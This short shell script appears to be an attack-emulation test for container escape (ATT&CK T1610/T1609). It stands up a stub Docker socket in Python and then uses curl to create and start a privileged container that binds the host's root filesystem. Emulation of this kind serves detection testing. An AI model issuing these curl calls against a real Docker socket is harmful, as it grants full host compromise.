# title: A container that has all of the host is made over Docker's socket, with curl
# technique: T1610 T1609
# needs: curl python3
# short: yes

python3 - <<'END' &
import socket
s = socket.socket(socket.AF_UNIX); s.bind("/run/docker.sock"); s.listen(5); s.settimeout(6)
try:
    for _ in range(2):
        c, _a = s.accept(); c.recv(4096); c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"); c.close()
except OSError: pass
END
while [ ! -S /run/docker.sock ]; do sleep 0.05; done
curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' http://localhost/containers/create
curl -s --unix-socket /run/docker.sock -X POST http://localhost/containers/x/start
